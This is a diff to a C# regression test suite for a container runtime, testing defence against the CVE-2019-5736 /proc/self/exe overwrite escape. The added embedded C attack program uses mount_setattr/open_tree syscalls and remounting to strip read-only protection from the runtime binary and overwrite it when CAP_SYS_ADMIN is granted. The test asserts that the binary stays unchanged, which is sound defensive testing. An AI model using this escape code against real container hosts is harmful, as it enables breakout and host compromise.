@@ -82,6 +82,13 @@ public sealed class JoinAttackTests(RuntimeFixture fixture) : IClassFixture<Runt
                 close(open("/tmp/x/c/state.json", O_RDWR));
                 close(open("/tmp/log", O_RDWR));
                 snprintf(path, sizeof path, "/proc/self/fd/%d", held);
+                // With CAP_SYS_ADMIN: lift the mount's read-only flag, or mount the file anew.
+                unsigned long change[4] = { 0, 1, 0, 0 };
+                syscall(442, held, "", 0x1000, change, sizeof change);
+                mount("none", path, 0, MS_REMOUNT | MS_BIND, 0);
+                int copy = syscall(428, held, "", 0x1000 | 1);
+                if (copy >= 0) { syscall(442, copy, "", 0x1000, change, sizeof change); snprintf(path, sizeof path, "/proc/self/fd/%d", copy); }
+                chmod(path, 0777);
                 for (int attempt = 0; attempt < 5000; attempt++) {
                     int file = open(path, O_WRONLY | O_APPEND);
                     if (file < 0 && errno != ETXTBSY) { printf("refused %d\n", errno); break; }
@@ -114,18 +121,25 @@ public sealed class JoinAttackTests(RuntimeFixture fixture) : IClassFixture<Runt
     }
 
     /// <summary>CVE-2019-5736: a program of the container is /proc/self/exe, so that the runtime's program runs in it.</summary>
-    [Fact]
-    public async Task Exec_InterpreterIsTheRuntimeItself_TheProgramStaysAsItWas()
+    [Theory]
+    [InlineData(false)]
+    [InlineData(true)]
+    public async Task Exec_InterpreterIsTheRuntimeItself_TheProgramStaysAsItWas(bool mayMount)
     {
         // A copy in a directory that can be written to: an attack that succeeds must not spoil the program of other tests.
-        var runtime = $"{fixture.Directory}/runtime-copy";
+        var runtime = $"{fixture.Directory}/runtime-copy-{mayMount}";
         File.Copy(fixture.RuntimePath, runtime);
         var before = SHA256.HashData(await File.ReadAllBytesAsync(runtime));
-        var bundle = fixture.NewBundle("", static spec => spec.Process!.Args = ["/bin/hold"]);
+        var bundle = fixture.NewBundle("", spec =>
+        {
+            spec.Process!.Args = ["/bin/hold"];
+            var capabilities = spec.Process.Capabilities!;
+            foreach (var set in (List<string>[])[capabilities.Bounding!, capabilities.Effective!, capabilities.Permitted!])
+            {
+                set.AddRange(mayMount ? ["CAP_SYS_ADMIN"] : []);
+            }
+        });
         AttackProgram.Install(bundle, "hold", Overwriter);
-        // The attacker's image has the libraries that the runtime needs; else it would not run in there at all.
-        var libraries = await fixture.RunShellAsync($"cp --parents -L $(ldd {runtime} | grep -o '/[^ ]*') {bundle.Rootfs}");
-        Assert.True(libraries.ExitCode == 0, libraries.Error);
         // What the runtime would do in there waits for a pipe, which gives the attacker all the time in the world.
         await File.WriteAllTextAsync($"{bundle.Rootfs}/bin/evil", "#!/proc/self/exe --log=/tmp/log\n");
         File.SetUnixFileMode($"{bundle.Rootfs}/bin/evil", (UnixFileMode)0x1ED);
@@ -141,6 +155,7 @@ public sealed class JoinAttackTests(RuntimeFixture fixture) : IClassFixture<Runt
         var output = await bundle.OutputAsync();
         Assert.Contains("held", output);
         Assert.DoesNotContain("overwritten", output);
+        Assert.Equal((UnixFileMode)0x1ED, File.GetUnixFileMode(runtime));
         Assert.Equal(before, SHA256.HashData(await File.ReadAllBytesAsync(runtime)));
     }
 }
